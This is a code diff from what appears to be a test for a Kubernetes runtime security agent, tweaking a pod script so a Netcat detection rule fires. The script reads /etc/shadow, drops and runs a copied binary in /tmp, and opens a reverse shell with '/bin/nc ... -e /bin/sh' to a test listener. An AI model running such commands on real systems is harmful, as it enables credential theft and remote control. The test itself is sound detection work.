@@ -173,9 +173,12 @@ def attack(node: Node, release: str, backends: tuple[Loki, Jaeger]) -> Iterator[
     """A Deployment whose pod runs the three attacks once the agent watches; its facts."""
     namespace = f"shop-{secrets.token_hex(3)}"
     listener = ReverseShellListener(node.host_ip)
+    # /bin/nc by path: busybox's sh runs a bare applet name as execve("/proc/self/exe"), whose
+    # comm is "exe" (Falco sees the same), and the Netcat rule keys on proc.name = nc.
+    # /tmp/dropped exits at once ("applet not found"): its upper-layer check must not need it.
     script = ("sleep 2; cat /etc/shadow >/dev/null; "
               "cp /bin/busybox /tmp/dropped && /tmp/dropped true; "
-              f"nc {node.host_ip} {listener.port} -e /bin/sh; "
+              f"/bin/nc {node.host_ip} {listener.port} -e /bin/sh; "
               "exec sleep 3600")
     deployment = {
         "apiVersion": "apps/v1", "kind": "Deployment",
